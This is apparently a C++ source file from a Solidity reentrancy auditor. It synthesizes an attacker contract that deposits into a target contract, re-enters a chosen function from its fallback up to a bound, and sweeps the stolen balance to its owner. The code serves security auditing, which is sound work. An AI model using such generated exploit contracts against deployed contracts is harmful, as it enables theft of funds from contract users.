// reaudit: reentrancy auditor for a Solidity subset
// Copyright 2026 The reaudit Authors.
// SPDX-License-Identifier: Apache-2.0

#include "reaudit/synth.hpp"

#include <utility>

#include "reaudit/printer.hpp"

namespace reaudit::synth {

using sol::AbiEntry;
using sol::AbiSpec;
using sol::Block;
using sol::Builtin;
using sol::Expr;
using sol::ExprPtr;
using sol::SolType;
using sol::Stmt;

namespace {

ExprPtr make(Expr::Node node) {
    auto e = std::make_unique<Expr>();
    e->node = std::move(node);
    return e;
}

ExprPtr num(u128 value) {
    return make(Expr::NumberLit{value});
}

ExprPtr ident(std::string name) {
    return make(Expr::Ident{std::move(name)});
}

ExprPtr builtin(Builtin which) {
    return make(Expr::BuiltinRef{which});
}

Stmt stmt(Stmt::Node node) {
    Stmt s;
    s.node = std::move(node);
    return s;
}

Stmt assign(std::string name, ExprPtr value) {
    Stmt::Assign node;
    node.lvalue = ident(std::move(name));
    node.op = sol::AssignOp::Assign;
    node.value = std::move(value);
    return stmt(std::move(node));
}

// One rendered argument literal back into an expression.
ExprPtr parse_arg_literal(const std::string& text) {
    if (text == "true" || text == "false")
        return make(Expr::BoolLit{text == "true"});
    if (text == "address(this)")
        return builtin(Builtin::SelfAddress);
    if (text.size() == 42 && text.rfind("0x", 0) == 0)
        return make(Expr::AddressLit{text});
    if (auto value = u128_from_string(text))
        return num(*value);
    throw SynthError("unsupported entry argument literal: " + text);
}

ExprPtr default_arg(const std::string& abi_type) {
    if (abi_type == "bool")
        return make(Expr::BoolLit{false});
    if (abi_type == "address")
        return builtin(Builtin::SelfAddress);
    return num(0);  // uint and anything uint-like
}

void assign_indices(Block& block, int& counter) {
    for (Stmt& s : block) {
        s.index = counter++;
        if (auto* iff = std::get_if<Stmt::If>(&s.node)) {
            assign_indices(iff->then_block, counter);
            if (iff->else_block)
                assign_indices(*iff->else_block, counter);
        }
    }
}

void finalize(sol::FunctionDef& fn) {
    int counter = 0;
    assign_indices(fn.body, counter);
}

}  // namespace

std::string attacker_contract_name(const AttackPlan& plan) {
    return "Attacker_" + plan.target_contract + "_" + plan.target_function;
}

sol::SourceUnit synthesize_attacker(const AbiSpec& abi, const AttackPlan& plan) {
    const AbiEntry* target = abi.find_function(plan.target_function);
    if (!target)
        throw NonAttackableTarget(plan.target_contract + "." + plan.target_function +
                                  " is not a public function");

    std::vector<ExprPtr> entry_args;
    std::vector<ExprPtr> recall_args;
    if (!plan.entry_args.empty() && plan.entry_args.size() != target->inputs.size())
        throw ArityMismatch(target->inputs.size(), plan.entry_args.size());
    for (size_t i = 0; i < target->inputs.size(); ++i) {
        if (plan.entry_args.empty()) {
            entry_args.push_back(default_arg(target->inputs[i].type));
            recall_args.push_back(default_arg(target->inputs[i].type));
        } else {
            entry_args.push_back(parse_arg_literal(plan.entry_args[i]));
            recall_args.push_back(parse_arg_literal(plan.entry_args[i]));
        }
    }

    std::string recall_signature = plan.target_function + "(";
    for (size_t i = 0; i < target->inputs.size(); ++i) {
        if (i)
            recall_signature += ",";
        recall_signature += target->inputs[i].type;
    }
    recall_signature += ")";

    sol::ContractDef attacker;
    attacker.name = attacker_contract_name(plan);

    auto state_var = [&](const char* name, SolType type) {
        sol::StateVarDecl var;
        var.name = name;
        var.type = std::move(type);
        var.visibility = sol::Visibility::Private;
        attacker.state_vars.push_back(std::move(var));
    };
    state_var("_owner", SolType::address_payable());
    state_var("_victim", SolType::address_payable());
    state_var("victim", SolType::contract(plan.target_contract));
    state_var("armed", SolType::uint256());
    state_var("reentries", SolType::uint256());

    // constructor(address payable target): bind owner and victim handle
    sol::FunctionDef ctor;
    ctor.name = "constructor";
    ctor.is_constructor = true;
    ctor.params.push_back({"target", SolType::address_payable()});
    ctor.body.push_back(assign("_owner", builtin(Builtin::MsgSender)));
    ctor.body.push_back(assign("_victim", ident("target")));
    {
        Expr::Call cast;
        cast.name = plan.target_contract;
        cast.args.push_back(ident("target"));
        ctor.body.push_back(assign("victim", make(std::move(cast))));
    }
    finalize(ctor);
    attacker.ctor = std::move(ctor);

    // attack(): arm, deposit funding+stake through the payable path, then
    // call the target through the handle.
    sol::FunctionDef entry;
    entry.name = kEntryFunction;
    entry.payable = true;
    entry.body.push_back(assign("armed", num(1)));
    const u128 deposit = plan.funding + plan.stake;
    if (deposit > 0) {
        Expr::ExternalCall call;
        call.target = ident("_victim");
        call.kind = sol::CallKind::CallValue;
        call.value = num(deposit);
        Stmt::Require require;
        require.cond = make(std::move(call));
        entry.body.push_back(stmt(std::move(require)));
    }
    {
        Expr::Call hit;
        hit.base = ident("victim");
        hit.name = plan.target_function;
        hit.args = std::move(entry_args);
        entry.body.push_back(stmt(Stmt::ExprStmt{make(std::move(hit))}));
    }
    finalize(entry);
    attacker.functions.push_back(std::move(entry));

    // transferToOwner(): sweep the balance
    sol::FunctionDef sweep;
    sweep.name = "transferToOwner";
    {
        Expr::ExternalCall out;
        out.target = ident("_owner");
        out.kind = sol::CallKind::Transfer;
        out.value = builtin(Builtin::SelfBalance);
        sweep.body.push_back(stmt(Stmt::ExprStmt{make(std::move(out))}));
    }
    finalize(sweep);
    attacker.functions.push_back(std::move(sweep));

    // fallback: while armed and under the bound, re-enter through a low-level
    // call so the innermost failure does not unwind the whole chain.
    sol::FunctionDef fallback;
    fallback.visibility = sol::Visibility::External;
    fallback.payable = true;
    {
        Stmt::If guard;
        guard.cond = make(Expr::Binary{sol::BinOp::Eq, ident("armed"), num(1)});
        Stmt::If bound;
        bound.cond = make(Expr::Binary{sol::BinOp::Lt, ident("reentries"),
            num(plan.max_reentry < 0 ? 0 : static_cast<u128>(plan.max_reentry))});
        {
            Stmt::Assign bump;
            bump.lvalue = ident("reentries");
            bump.op = sol::AssignOp::AddAssign;
            bump.value = num(1);
            bound.then_block.push_back(stmt(std::move(bump)));
        }
        {
            Expr::ExternalCall recall;
            recall.target = ident("_victim");
            recall.kind = sol::CallKind::CallValue;
            recall.value = num(0);
            sol::CallPayload payload;
            payload.signature = recall_signature;
            payload.fn_name = plan.target_function;
            payload.args = std::move(recall_args);
            recall.payload = std::move(payload);
            bound.then_block.push_back(stmt(Stmt::ExprStmt{make(std::move(recall))}));
        }
        guard.then_block.push_back(stmt(std::move(bound)));
        fallback.body.push_back(stmt(std::move(guard)));
    }
    finalize(fallback);
    attacker.fallback = std::move(fallback);

    sol::SourceUnit unit;
    unit.pragma.text = ">=0.4.22 <0.6.0";
    unit.imports.push_back(plan.target_contract + ".sol");
    unit.contracts.push_back(std::move(attacker));
    return unit;
}

std::string render_attacker(const sol::SourceUnit& unit) {
    return sol::render(unit);
}

}  // namespace reaudit::synth
